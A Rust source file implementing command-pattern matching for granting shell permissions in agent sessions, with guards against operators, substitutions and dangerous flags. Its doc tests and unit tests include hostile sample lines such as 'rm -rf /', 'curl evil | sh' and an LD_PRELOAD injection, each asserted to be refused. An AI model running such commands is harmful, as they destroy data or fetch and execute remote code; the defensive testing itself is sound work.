//! Command patterns (rule P4's first grant): "this command is fine for this session", and how
//! one admits a command line.
//!
//! A pattern is one simple command, written as the shell would write it and read by the same
//! grammar as a command line (`crate::commands`, and `docs/patterns.md`), and it matches one
//! simple command **word by word**, after quote removal on both sides:
//!
//! * a word without an unquoted `*` matches the equal word;
//! * an unquoted `*` inside a word matches any run of characters, possibly none, within that
//!   one word, never across a space; so a whole-word `*` matches exactly one word;
//! * except that a whole-word `*` as the **last** word matches zero or more further words.
//!
//! A quoted `'*'` is an ordinary character. A pattern never contains an operator, an expansion
//! or any other construct that [`parse_command_line`](crate::parse_command_line) refuses; a
//! leading `VAR=value` is a word of the pattern like any other. A command line is admitted by
//! patterns only when it parses into simple commands and each is matched on its own.
//!
//! This module owns the matching, and touches no database: storing patterns on sessions is
//! `crate::grants`'.

use std::cell::RefCell;
use std::collections::HashMap;
use std::ops::Range;
use std::rc::Rc;

use serde::Serialize;

use crate::commands::{
    guarded_words, join_words, parse_command_line, parse_pattern_words, read_wrapper, Inner,
    PatternWord, Piece, Refusal,
};
use crate::error::{Error, InputError};

mod breadth;
mod tools;

pub use tools::{
    is_tool_rule, PathGlob, ToolCall, ToolRule, EDIT_TOOLS, READ_ONLY_TOOLS, READ_TOOLS,
};

/// The longest command pattern accepted, in bytes.
pub const MAX_PATTERN_LEN: usize = 1024;

/// A command pattern, parsed: one simple command whose words may hold the wildcard `*`.
///
/// ```
/// use session_ledger::Pattern;
/// let pattern = Pattern::parse("npm test *")?;
/// assert!(pattern.admits(&["npm", "test"]));
/// assert!(pattern.admits(&["npm", "test", "--", "--watch"]));
/// assert!(!pattern.admits(&["npm", "install"]));
/// assert!(Pattern::parse("npm test; rm -rf /").is_err());
/// # Ok::<(), session_ledger::Error>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pattern {
    text: String,
    words: Vec<PatternWord>,
    /// The last word is a whole-word `*`: zero or more further words.
    open_ended: bool,
}

impl Pattern {
    /// Parses and checks a pattern: non-empty, at most [`MAX_PATTERN_LEN`] bytes, exactly one
    /// simple command of plain words.
    ///
    /// # Errors
    ///
    /// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern), saying why: empty, too long, an operator joining two
    /// commands, or a construct a pattern never admits (with its byte offset).
    pub fn parse(text: &str) -> Result<Pattern, Error> {
        let invalid = |problem: String| {
            Error::Input(InputError::InvalidPattern {
                pattern: text.to_owned(),
                problem,
            })
        };
        if text.trim().is_empty() {
            return Err(invalid("it is empty".to_owned()));
        }
        if text.len() > MAX_PATTERN_LEN {
            return Err(invalid("it is longer than 1024 bytes".to_owned()));
        }
        if text.contains('\0') {
            return Err(invalid("it contains a NUL character".to_owned()));
        }
        let mut parts = parse_pattern_words(text).map_err(|refusal| {
            invalid(format!(
                "it contains {refusal}, which no pattern can admit; a pattern is plain words"
            ))
        })?;
        if parts.len() > 1 {
            let at = parts[0].1.end;
            return Err(invalid(format!(
                "it joins two commands with an operator after byte {at}; a pattern matches one \
                 simple command, so add one pattern per command"
            )));
        }
        let (words, _) = parts
            .pop()
            .ok_or_else(|| invalid("it is empty".to_owned()))?;
        let words: Vec<PatternWord> = words.into_iter().map(normalize).collect();
        let open_ended = words.last().is_some_and(|w| w.as_slice() == [Piece::Star]);
        Ok(Pattern {
            text: text.to_owned(),
            words,
            open_ended,
        })
    }

    /// The pattern as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// True when the pattern matches one simple command's words (after quote removal), as
    /// written: a wildcard never stands for a word that makes the program run another program
    /// or write a file it names (`git -c`, `find -exec`, `sort -o`, a leading assignment, the
    /// program a wrapper runs); such a word is admitted only by a pattern that names it.
    /// Wrappers are not read through here: [`pattern_matches`] does that.
    ///
    /// ```
    /// use session_ledger::Pattern;
    /// let git = Pattern::parse("git *")?;
    /// assert!(git.admits(&["git", "log", "-3"]));
    /// assert!(!git.admits(&["git", "-c", "core.pager=sh", "log"]));
    /// assert!(Pattern::parse("git -c *")?.admits(&["git", "-c", "core.pager=less", "log"]));
    /// # Ok::<(), session_ledger::Error>(())
    /// ```
    pub fn admits<S: AsRef<str>>(&self, words: &[S]) -> bool {
        let words: Vec<String> = words.iter().map(|w| w.as_ref().to_owned()).collect();
        let guarded: Vec<usize> = guarded_words(&words).into_iter().map(|(i, _)| i).collect();
        self.admits_guarded(&words, &guarded)
    }

    /// True when any word of the pattern holds a wildcard.
    fn has_wildcard(&self) -> bool {
        self.words.iter().any(|w| w.contains(&Piece::Star))
    }

    /// [`Pattern::admits`], with the guarded words already found.
    fn admits_guarded(&self, words: &[String], guarded: &[usize]) -> bool {
        let fixed = if self.open_ended {
            &self.words[..self.words.len() - 1]
        } else {
            &self.words[..]
        };
        let count_ok = if self.open_ended {
            words.len() >= fixed.len()
        } else {
            words.len() == fixed.len()
        };
        count_ok
            && fixed.iter().zip(words).enumerate().all(|(i, (p, w))| {
                word_matches(p, w) && (!p.contains(&Piece::Star) || !guarded.contains(&i))
            })
            && !(self.open_ended && guarded.iter().any(|&i| i >= fixed.len()))
    }
}

/// How a command line's simple command was admitted: by which pattern (its index in the list
/// given), and the command read through its wrappers when that is what the pattern admitted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Admission {
    pub(crate) pattern: usize,
    pub(crate) inner: Option<String>,
}

/// Why a simple command was not admitted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum NotAdmitted {
    /// No pattern admits this command (the part as written, or its inner command).
    Command,
    /// A shell's script holds a construct no pattern admits.
    Refused(Refusal),
}

/// A word that a pattern's wildcard would have matched but may not stand for: why a line that
/// pattern seems to admit asks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Kept {
    /// The pattern's index in the list given.
    pub(crate) pattern: usize,
    /// The word.
    pub(crate) word: String,
    /// What the word does.
    pub(crate) why: &'static str,
}

/// The first pattern of `patterns` that would admit `words` (or, through transparent wrappers,
/// their inner command) but for a word its wildcard may not stand for, and that word.
pub(crate) fn kept_from(patterns: &[&Pattern], words: &[String]) -> Option<Kept> {
    let mut words = words;
    for _ in 0..MAX_WRAPPERS {
        let guarded = guarded_words(words);
        for (n, p) in patterns.iter().enumerate() {
            if !p.admits_guarded(words, &[]) {
                continue;
            }
            let fixed = p.words.len() - usize::from(p.open_ended);
            let starred = |i: usize| {
                if i < fixed {
                    p.words[i].contains(&Piece::Star)
                } else {
                    p.open_ended
                }
            };
            if let Some(&(i, why)) = guarded.iter().find(|&&(i, _)| starred(i)) {
                return Some(Kept {
                    pattern: n,
                    word: words[i].clone(),
                    why,
                });
            }
        }
        match read_wrapper(words)
            .filter(|w| w.transparent)
            .map(|w| w.inner)
        {
            Some(Inner::Words(i)) => words = &words[i..],
            _ => return None,
        }
    }
    None
}

/// How deeply transparent wrappers are read through.
const MAX_WRAPPERS: usize = 8;

/// Admits one simple command with `patterns`: a pattern that matches it as written, or, for a
/// transparent wrapper (`timeout`, `nice`, `nohup`, `time`, `stdbuf`, `command`, `env` with
/// assignments only, a shell's `-c SCRIPT`), the inner command admitted on its own (each of a
/// script's commands). An opaque wrapper (`sudo`, `doas`, `xargs`, `watch`, `exec`) is
/// admitted only by a pattern that names it.
pub(crate) fn admit(
    patterns: &[&Pattern],
    words: &[String],
) -> Result<Vec<Admission>, NotAdmitted> {
    admit_at(patterns, words, 0, false)
}

fn admit_at(
    patterns: &[&Pattern],
    words: &[String],
    depth: usize,
    inner: bool,
) -> Result<Vec<Admission>, NotAdmitted> {
    // The guarded words are found only once a pattern with a wildcard would admit the words
    // without them: most patterns fail on a literal word first, and a pattern without a
    // wildcard names every word it admits.
    let mut guarded: Option<Vec<usize>> = None;
    let found = patterns.iter().position(|p| {
        if !p.admits_guarded(words, &[]) {
            return false;
        }
        if !p.has_wildcard() {
            return true;
        }
        let guarded = guarded
            .get_or_insert_with(|| guarded_words(words).into_iter().map(|(i, _)| i).collect());
        p.admits_guarded(words, guarded)
    });
    if let Some(found) = found {
        return Ok(vec![Admission {
            pattern: found,
            inner: inner.then(|| join_words(words)),
        }]);
    }
    let wrapped = read_wrapper(words).filter(|w| w.transparent && depth < MAX_WRAPPERS);
    match wrapped.map(|w| w.inner) {
        Some(Inner::Words(i)) => admit_at(patterns, &words[i..], depth + 1, true),
        Some(Inner::Script(i)) => {
            let commands = parse_command_line(&words[i]).map_err(NotAdmitted::Refused)?;
            let mut all = Vec::with_capacity(commands.len());
            for simple in commands {
                all.extend(admit_at(patterns, &simple.words, depth + 1, true)?);
            }
            Ok(all)
        }
        _ => Err(NotAdmitted::Command),
    }
}

/// Merges neighbouring text pieces and repeated stars.
fn normalize(word: PatternWord) -> PatternWord {
    let mut out: PatternWord = Vec::with_capacity(word.len());
    for piece in word {
        match (out.last_mut(), piece) {
            (Some(Piece::Text(last)), Piece::Text(t)) => last.push_str(&t),
            (Some(Piece::Star), Piece::Star) => {}
            (_, piece) => out.push(piece),
        }
    }
    if out.is_empty() {
        out.push(Piece::Text(String::new()));
    }
    out
}

/// One pattern word against one word: texts in order, each star any run of characters.
fn word_matches(pattern: &[Piece], word: &str) -> bool {
    let texts: Vec<&str> = pattern
        .iter()
        .filter_map(|p| match p {
            Piece::Text(t) => Some(t.as_str()),
            Piece::Star => None,
        })
        .collect();
    let starts_open = matches!(pattern.first(), Some(Piece::Star));
    let ends_open = matches!(pattern.last(), Some(Piece::Star));
    if !pattern.contains(&Piece::Star) {
        return texts.concat() == word;
    }
    let mut rest = word;
    let mut texts = texts.as_slice();
    if !starts_open {
        let Some((first, others)) = texts.split_first() else {
            return true;
        };
        let Some(after) = rest.strip_prefix(first) else {
            return false;
        };
        rest = after;
        texts = others;
    }
    if !ends_open {
        let Some((last, others)) = texts.split_last() else {
            return true;
        };
        let Some(before) = rest.strip_suffix(last) else {
            return false;
        };
        rest = before;
        texts = others;
    }
    // Between stars: each text leftmost in what is left, which is always a safe choice.
    for text in texts {
        match rest.find(text) {
            Some(at) => rest = &rest[at + text.len()..],
            None => return false,
        }
    }
    true
}

thread_local! {
    /// Patterns parsed on this thread, by text: `decide` reads a session's stored patterns on
    /// every call, and parsing one costs more than matching it. `None` for a stored pattern
    /// this build refuses.
    static PARSED: RefCell<HashMap<String, Option<Rc<Pattern>>>> = RefCell::new(HashMap::new());
}

/// The most patterns [`cached_pattern`] keeps per thread before it starts again.
const PARSED_CAPACITY: usize = 4096;

/// A stored pattern, parsed (once per thread); `None` when this build refuses it.
pub(crate) fn cached_pattern(text: &str) -> Option<Rc<Pattern>> {
    PARSED.with(|cell| {
        if let Some(found) = cell.borrow().get(text) {
            return found.clone();
        }
        // A tool rule (`mcp__github`) never admits a command line, even one that reads alike.
        let parsed = if is_tool_rule(text) {
            None
        } else {
            Pattern::parse(text).ok().map(Rc::new)
        };
        let mut cache = cell.borrow_mut();
        if cache.len() >= PARSED_CAPACITY {
            cache.clear();
        }
        cache.insert(text.to_owned(), parsed.clone());
        parsed
    })
}

/// Checks a command pattern, as [`Pattern::parse`] does.
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern), saying why.
///
/// ```
/// use session_ledger::validate_pattern;
/// assert!(validate_pattern("git status").is_ok());
/// assert!(validate_pattern("npm test && rm -rf /").is_err());
/// assert!(validate_pattern("echo $(id)").is_err());
/// ```
pub fn validate_pattern(pattern: &str) -> Result<(), Error> {
    Pattern::parse(pattern).map(|_| ())
}

/// True when `pattern` admits the whole of `command`: the pattern is valid, the line parses
/// into simple commands of plain words, and the pattern matches each of them on its own.
///
/// ```
/// use session_ledger::pattern_matches;
/// assert!(pattern_matches("npm test", "npm test"));
/// assert!(pattern_matches("npm test", "'npm'  test"));
/// assert!(pattern_matches("npm test *", "npm test -- --watch"));
/// assert!(!pattern_matches("npm test *", "npm test x; rm -rf /"));
/// assert!(!pattern_matches("npm test *", "npm test $(curl evil | sh)"));
/// assert!(!pattern_matches("npm test", "LD_PRELOAD=/tmp/x.so npm test"));
/// ```
pub fn pattern_matches(pattern: &str, command: &str) -> bool {
    let Ok(pattern) = Pattern::parse(pattern) else {
        return false;
    };
    match parse_command_line(command) {
        Ok(parts) => parts
            .iter()
            .all(|part| admit(&[&pattern], &part.words).is_ok()),
        Err(_) => false,
    }
}

/// Checks a pattern against examples: each of `must_match` must be admitted whole by the
/// pattern ([`pattern_matches`]), and none of `must_not_match`. Like Codex's match / not_match
/// examples: a pattern that disagrees with what the operator meant is refused before it is
/// stored.
///
/// ```
/// use session_ledger::check_pattern_examples;
/// assert!(check_pattern_examples("npm test *", &["npm test --watch"], &["npm install"]).is_ok());
/// assert!(check_pattern_examples("npm *", &["npm test"], &["npm install"]).is_err());
/// ```
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern) when the pattern is invalid or an example disagrees, naming it.
pub fn check_pattern_examples<S: AsRef<str>>(
    pattern: &str,
    must_match: &[S],
    must_not_match: &[S],
) -> Result<(), Error> {
    Pattern::parse(pattern)?;
    let invalid = |problem: String| {
        Error::Input(InputError::InvalidPattern {
            pattern: pattern.to_owned(),
            problem,
        })
    };
    for example in must_match {
        let test = test_pattern(pattern, example.as_ref())?;
        if !test.admitted {
            let why = match (&test.refused, test.parts.iter().find(|p| !p.admitted)) {
                (Some(r), _) => format!("the line holds {r}, which no pattern admits"),
                (_, Some(p)) => format!("it does not admit the part {:?}", p.text),
                _ => "it does not admit it".to_owned(),
            };
            return Err(invalid(format!(
                "the example {:?} must match, but {why}",
                example.as_ref()
            )));
        }
    }
    for example in must_not_match {
        if pattern_matches(pattern, example.as_ref()) {
            return Err(invalid(format!(
                "the example {:?} must not match, but it does",
                example.as_ref()
            )));
        }
    }
    Ok(())
}

/// What a pattern would do with a command line, part by part ([`test_pattern`]).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PatternTest {
    /// The pattern.
    pub pattern: String,
    /// The command line.
    pub command: String,
    /// True when the pattern admits every part and nothing was refused.
    pub admitted: bool,
    /// Each simple command of the line, with whether the pattern admits it; empty when the
    /// line was refused.
    pub parts: Vec<PartTest>,
    /// The construct that stops the line, if one does: then no pattern admits it.
    pub refused: Option<Refusal>,
}

/// One simple command of a [`PatternTest`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PartTest {
    /// The part's text in the line.
    pub text: String,
    /// Where it is in the line.
    pub range: Range<usize>,
    /// Its words after quote removal.
    pub words: Vec<String>,
    /// True when the pattern matches it.
    pub admitted: bool,
    /// The command read through its wrappers, when that is what the pattern admitted
    /// (`npm test` of `timeout 5 npm test`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub inner: Option<String>,
}

/// Shows what `pattern` would admit of `command`, part by part, writing nothing.
///
/// ```
/// let test = session_ledger::test_pattern("npm test *", "npm test x; rm -rf /")?;
/// assert!(!test.admitted);
/// assert!(test.parts[0].admitted);
/// assert!(!test.parts[1].admitted);
/// # Ok::<(), session_ledger::Error>(())
/// ```
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern) when the pattern is not valid.
pub fn test_pattern(pattern: &str, command: &str) -> Result<PatternTest, Error> {
    let parsed = Pattern::parse(pattern)?;
    let (parts, refused) = match parse_command_line(command) {
        Ok(parts) => (
            parts
                .into_iter()
                .map(|part| {
                    let admission = admit(&[&parsed], &part.words);
                    PartTest {
                        text: command[part.range.clone()].to_owned(),
                        admitted: admission.is_ok(),
                        inner: admission
                            .ok()
                            .and_then(|a| a.into_iter().find_map(|a| a.inner)),
                        range: part.range,
                        words: part.words,
                    }
                })
                .collect::<Vec<_>>(),
            None,
        ),
        Err(refusal) => (Vec::new(), Some(refusal)),
    };
    Ok(PatternTest {
        pattern: pattern.to_owned(),
        command: command.to_owned(),
        admitted: refused.is_none() && parts.iter().all(|p| p.admitted),
        parts,
        refused,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_star_matches_within_one_word_and_a_last_star_any_further_words() {
        assert!(pattern_matches("*", "anything at all"));
        assert!(pattern_matches("git *", "git status"));
        assert!(pattern_matches("git *", "git"));
        assert!(!pattern_matches("git *", "gitk"));
        assert!(pattern_matches("git * --short", "git status --short"));
        assert!(!pattern_matches("git * --short", "git status -v --short"));
        assert!(pattern_matches("ls -*", "ls -la"));
        assert!(!pattern_matches("ls -*", "ls -la x"));
        assert!(pattern_matches("cargo test --*=*", "cargo test --jobs=2"));
        assert!(pattern_matches("a'*'b", "a'*'b"));
        assert!(!pattern_matches("a'*'b", "axb"));
        assert!(pattern_matches("npm test", "npm test "));
        assert!(pattern_matches("npm  test", "'npm' \"test\""));
    }

    #[test]
    fn a_pattern_with_an_operator_or_a_construct_is_refused_with_its_reason() {
        for (bad, says) in [
            ("", "empty"),
            ("  ", "empty"),
            ("npm test; rm", "operator after byte 8"),
            ("npm test && rm", "operator"),
            ("echo $(id)", "command substitution at byte 5"),
            ("echo $HOME", "parameter expansion"),
            ("ls > f", "redirection"),
            ("ls ?", "filename expansion"),
            ("npm test '", "does not parse"),
        ] {
            match Pattern::parse(bad) {
                Err(Error::Input(InputError::InvalidPattern { problem, .. })) => {
                    assert!(problem.contains(says), "{bad:?}: {problem}")
                }
                other => panic!("{bad:?}: {other:?}"),
            }
        }
    }
}
